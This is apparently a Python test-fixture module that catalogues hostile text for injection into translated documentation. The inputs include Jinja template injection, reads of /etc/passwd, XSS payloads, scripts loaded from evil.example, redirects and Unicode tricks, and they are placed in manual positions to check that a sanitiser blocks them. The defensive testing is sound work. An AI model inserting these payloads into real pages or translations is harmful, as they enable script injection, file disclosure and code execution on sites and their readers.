"""Hostile translations, and the places of a manual where a catalogue can put them.

MARK in a text stands for a word of its own (`marked`): a test finds it where any of the text got through.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Where = Literal["anywhere", "start", "end", "attribute"]
"""Where in a message the text does harm: at its start, at its end, or only between an attribute's quotes."""


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    where: Where = "anywhere"

    def marked(self, mark: str) -> str:
        """The text with its word in it, or before it where that changes nothing."""
        if "MARK" in self.text:
            return self.text.replace("MARK", mark)
        return self.text if self.where == "start" else f"{mark} {self.text}"


@dataclass(frozen=True)
class Position:
    """A place for a message: its kind, its source and what a translator would make of it before the harm."""

    name: str
    kind: str
    source: str
    translation: str
    inner: bool = False  # inside a link or an image, where the ends of the text are not the message's

    def poisoned(self, hostile: Hostile, number: int, mark: str) -> tuple[str, str]:
        """The source of message number `number` and its hostile translation."""
        source = self.source.replace("NUMBER", str(number))
        text = hostile.marked(mark)
        if hostile.where != "start":
            text = self.translation.replace("NUMBER", str(number)).replace("HARM", text)
        return source, text

    def harmed_by(self, hostile: Hostile) -> bool:
        """Whether the text does harm in this place."""
        if hostile.where == "attribute":
            return self.kind in {"front-matter", "plain"}
        return hostile.where == "anywhere" or not self.inner


POSITIONS = (
    Position("paragraph", "paragraph", "Sentence NUMBER of a paragraph.", "Phrase NUMBER HARM"),
    Position("heading", "heading", "Heading NUMBER", "Titre NUMBER HARM"),
    Position("item", "item", "Step NUMBER of a list.", "Étape NUMBER HARM"),
    Position("quotation", "paragraph", "Words NUMBER of a quotation.", "Paroles NUMBER HARM"),
    Position("cell", "cell", "Cell NUMBER", "Cellule NUMBER HARM"),
    Position("admonition", "title", "Notice NUMBER", "Avis NUMBER HARM"),
    Position("details", "title", "More NUMBER", "Détails NUMBER HARM"),
    Position("tab", "title", "Channel NUMBER", "Canal NUMBER HARM"),
    Position("footnote", "footnote", "Footnote NUMBER.", "Note de bas de page NUMBER HARM"),
    Position("term", "term", "Word NUMBER", "Mot NUMBER HARM"),
    Position("definition", "definition", "Meaning NUMBER.", "Sens NUMBER HARM"),
    Position("abbreviation", "abbreviation", "Long form NUMBER", "Forme longue NUMBER HARM"),
    Position("link", "paragraph", "Open [form NUMBER](index.md).", "Ouvrez [la fiche NUMBER HARM](index.md).", True),
    Position(
        "link title",
        "paragraph",
        'Fill in [it NUMBER](index.md "The form").',
        'Remplissez-[la NUMBER](index.md "La fiche HARM").',
        True,
    ),
    Position("image", "paragraph", "![Flow NUMBER](flow.svg)", "![Processus NUMBER HARM](flow.svg)", True),
    Position("page title", "front-matter", "Page NUMBER", "Page française NUMBER HARM"),
    Position("description", "front-matter", "What page NUMBER says.", "Ce que dit la page NUMBER HARM"),
    Position("navigation", "plain", "Entry NUMBER", "Entrée NUMBER HARM"),
    Position("register", "plain", "Record NUMBER", "Enregistrement NUMBER HARM"),
    Position("template", "plain", "Search NUMBER", "Rechercher NUMBER HARM"),
)

_JINJA = (
    Hostile("expression", "{{ 'MARK' * 7 }}"),
    Hostile("expression of the configuration", "{{ config.site_dir }}"),
    Hostile("expression that reaches Python", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Hostile("expression without spaces", "{{7*7}}"),
    Hostile("expression that trims", "{{- 7 * 7 -}}"),
    Hostile("expression with its end in a string", '{{ "}}" ~ 7 }}'),
    Hostile("macro of the manual", '{{ record("RC-CUS-08-1") }}'),
    Hostile("statement", "{% for x in range(9) %}MARK{% endfor %}"),
    Hostile("inclusion of a file", '{% include "/etc/passwd" %}'),
    Hostile("statement that sets", "{%- set x = 1 -%}"),
    Hostile("statement that turns Jinja off", "{% raw %}"),
    Hostile("comment", "{# MARK #}"),
    Hostile("comment that hides the rest", "{# MARK"),
    Hostile("half an expression", "{{ MARK"),
    Hostile("brace for a neighbour", "MARK {"),
    Hostile("brace at the start", "{ MARK", "start"),
    Hostile("end of a neighbour's expression", "}}"),
    Hostile("end of a neighbour's statement", "%}"),
    Hostile("braces split by a comment", "{<!-- MARK -->{ 7 * 7 }}"),
    Hostile("braces split by emphasis", "{**MARK**{ 7 * 7 }}"),
    Hostile("braces split by a space of no width", "{\u200b{ 7 * 7 }}"),
    Hostile("brace as an entity", "&#123;{ 7 * 7 }}"),
    Hostile("full-width braces", "｛｛ MARK ｝｝"),
    Hostile("expression in code", "`{{ 7 * 7 }}`"),
    Hostile("expression in an address", "[MARK]({{ 7 * 7 }})"),
    Hostile("expression after a backslash", "\\{{ 7 * 7 }}"),
)

_HTML = (
    Hostile("script", "<script>alert('MARK')</script>"),
    Hostile("script from another host", "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>"),
    Hostile("image with an event", "<img src=MARK onerror=alert(1)>"),
    Hostile("drawing with an event", "<svg/onload=alert('MARK')>"),
    Hostile("details with an event", "<details open ontoggle=alert(1)>MARK</details>"),
    Hostile("frame", '<iframe src="https://evil.example/MARK"></iframe>'),
    Hostile("link in HTML", '<a href="javascript:alert(1)">MARK</a>'),
    Hostile("style", "<style>*{display:none}</style>"),
    Hostile("redirection", "<meta http-equiv=refresh content=0;url=//evil.example>"),
    Hostile("harmless tag", "<b>MARK</b>"),
    Hostile("tag of a page's own", "<x-MARK>"),
    Hostile("end of a tag", "</div>"),
    Hostile("end of the untranslated mark", "</span>MARK"),
    Hostile("tag that does not end", "MARK <b"),
    Hostile("tag after a backslash", "\\<b>MARK"),
    Hostile("comment in HTML", "<!-- MARK -->"),
    Hostile("comment that hides the rest of the page", "MARK <!--"),
    Hostile("instruction", "<?php MARK ?>"),
    Hostile("character data", "<![CDATA[MARK]]>"),
    Hostile("tag as named entities", "&lt;script&gt;MARK"),
    Hostile("tag as numbered entities", "&#60;script&#62;MARK"),
    Hostile("tag as hexadecimal entities", "&#x3C;script>MARK"),
    Hostile("full-width tag", "＜script＞MARK"),
    Hostile("line break in HTML", "MARK<br>"),
    Hostile("arrow for a neighbour's tag", "MARK >"),
)

_LINKS = (
    Hostile("link that runs code", "[MARK](javascript:alert(1))"),
    Hostile("link that runs code, disguised", "[MARK](JaVaScRiPt&#58;alert(1))"),
    Hostile("link with data", "[MARK](data:text/html;base64,PHN2Zz4=)"),
    Hostile("link to another host", "[MARK](https://evil.example)"),
    Hostile("link to another host, any protocol", "[MARK](//evil.example)"),
    Hostile("link to another page", "[MARK](index.md#top)"),
    Hostile("image from another host", "![MARK](https://evil.example/pixel.png)"),
    Hostile("address in angle brackets", "<https://evil.example/MARK>"),
    Hostile("code in angle brackets", "<javascript://alert(1)>"),
    Hostile("mail in angle brackets", "<MARK@evil.example>"),
    Hostile("address", "https://evil.example/MARK"),
    Hostile("address without a protocol", "www.evil.example/MARK"),
    Hostile("mail", "MARK@evil.example"),
    Hostile("data", "data:text/html,MARK"),
    Hostile("code as an address", "javascript:alert('MARK')"),
    Hostile("reference", "[MARK][evil]"),
    Hostile("reference by its text", "[MARK][]"),
    Hostile("label", "[MARK]"),
    Hostile("definition of a label", "[MARK]: https://evil.example", "start"),
    Hostile("definition of a label without an address", "[MARK]: index.md", "start"),
    Hostile("footnote", "MARK[^1]"),
    Hostile("definition of a footnote", "[^MARK]: text", "start"),
    Hostile("abbreviation", "*[MARK]: text", "start"),
    Hostile("end of a link", "MARK](https://evil.example"),
    Hostile("table of contents", "[TOC]"),
)

_ATTRIBUTES = (
    Hostile("attribute list with an event", "**MARK**{ onmouseover=alert(1) }"),
    Hostile("attribute list", "MARK { .hidden }"),
    Hostile("attribute list with a colon", '{: .MARK onclick="alert(1)" }'),
    Hostile("attribute list with an id", "MARK { #conclusion }"),
    Hostile("attribute list with a style", "*MARK*{style=display:none}"),
    Hostile("quote that ends an attribute", '0;url=MARK" http-equiv="refresh', "attribute"),
    Hostile("quote that begins an event", 'MARK" onfocus="alert(1)" autofocus', "attribute"),
    Hostile("placeholder", "{MARK.__class__}"),
    Hostile("placeholder in percent", "%(MARK)s"),
)

_BLOCKS = (
    Hostile("heading", "# MARK", "start"),
    Hostile("heading without a space", "##MARK", "start"),
    Hostile("list", "- MARK", "start"),
    Hostile("list with a plus", "+ MARK", "start"),
    Hostile("list with a star", "* MARK", "start"),
    Hostile("numbered list", "1. MARK", "start"),
    Hostile("task", "[x] MARK", "start"),
    Hostile("quotation", "> MARK", "start"),
    Hostile("fence", "```", "start"),
    Hostile("fence with a language", "~~~ MARK", "start"),
    Hostile("admonition", "!!! danger MARK", "start"),
    Hostile("details", "??? MARK", "start"),
    Hostile("tab", '=== "MARK"', "start"),
    Hostile("block of pymdownx", "/// MARK", "start"),
    Hostile("definition", ":   MARK", "start"),
    Hostile("indented code", "    MARK", "start"),
    Hostile("indented code by a tab", "\tMARK", "start"),
    Hostile("table", "| MARK | b |", "start"),
    Hostile("rule", "---", "start"),
    Hostile("rule of stars", "* * *", "start"),
    Hostile("underline", "===", "start"),
    Hostile("snippet", '--8<-- "/etc/passwd"'),
    Hostile("place of footnotes", "///Footnotes Go Here///"),
    Hostile("bar of a table", "MARK | b"),
)

_LINES = (
    Hostile("paragraph", "MARK\n\n# heading"),
    Hostile("line", "MARK\nmore"),
    Hostile("hard break", "MARK  \nmore"),
    Hostile("hard break by a backslash", "MARK\\\nmore"),
    Hostile("underlined line", "MARK\n==="),
    Hostile("carriage return", "MARK\r# heading"),
    Hostile("form feed", "MARK\x0c# heading"),
    Hostile("vertical tab", "MARK\x0bheading"),
    Hostile("next line", "MARK\u0085heading"),
    Hostile("line separator", "MARK\u2028heading"),
    Hostile("paragraph separator", "MARK\u2029heading"),
)

_CHARACTERS = (
    Hostile("right-to-left override", "MARK\u202egnp.exe"),
    Hostile("isolate", "\u2066MARK\u2069"),
    Hostile("space of no width", "MA\u200bRK"),
    Hostile("joiner", "MA\u200dRK"),
    Hostile("byte order mark", "\ufeffMARK"),
    Hostile("soft hyphen", "MA\u00adRK"),
    Hostile("word joiner", "MARK\u2060"),
    Hostile("filler", "MARK\u3164x"),
    Hostile("tag character", "MARK\U000e0041"),
    Hostile("variation selector", "MARK\ufe0f"),
    Hostile("wide space", "MARK\u3000x"),
    Hostile("placeholder of Python-Markdown", "\x02wzxhzdk:0\x03 MARK"),
    Hostile("dye of the segments", "MARK\ue000"),
    Hostile("private use of a higher plane", "MARK\U000f0000"),
    Hostile("escape sequence of a terminal", "MARK\x1b[31m"),
    Hostile("bell", "MARK\x07"),
    Hostile("delete", "MARK\x7f"),
    Hostile("lost character", "MARK\ufffd"),
    Hostile("no character", "MARK\ufffe"),
)

_MARKS = (
    Hostile("emphasis that does not end", "**MARK"),
    Hostile("emphasis that does not begin", "MARK*"),
    Hostile("underscore that does not end", "_MARK"),
    Hostile("code that does not end", "`MARK"),
    Hostile("code", "`MARK`"),
    Hostile("bracket that does not end", "[MARK"),
    Hostile("backslash at the end", "MARK\\", "end"),
    Hostile("length", "MARK " * 3000),
    Hostile("brackets to keep the parser busy", "[" * 3000),
)

HOSTILE = (
    *_JINJA,
    *_HTML,
    *_LINKS,
    *_ATTRIBUTES,
    *_BLOCKS,
    *_LINES,
    *_CHARACTERS,
    *_MARKS,
)

CASES = tuple(
    (number, hostile, position)
    for number, hostile in enumerate(HOSTILE, 1)
    for position in POSITIONS
    if position.harmed_by(hostile)
)
"""Every hostile text in every place where it does harm, with the number of its page."""
